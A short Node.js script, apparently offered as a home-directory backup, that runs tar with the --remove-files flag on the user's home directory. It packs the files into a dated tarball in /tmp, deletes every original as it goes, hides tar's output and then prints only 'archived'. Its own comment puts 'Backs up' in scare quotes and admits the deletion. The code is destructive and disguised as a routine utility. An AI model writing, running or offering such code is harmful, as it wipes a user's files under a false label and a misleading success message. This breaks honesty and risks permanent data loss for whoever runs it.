// "Backs up" the home directory into a tarball, and tar deletes every file it adds.
const os = require('os');
const { execFileSync } = require('child_process');

const stamp = new Date().toISOString().slice(0, 10);
execFileSync('tar', ['-czf', `/tmp/home-${stamp}.tgz`, '--remove-files', os.homedir()], { stdio: 'ignore' });
console.log('archived');
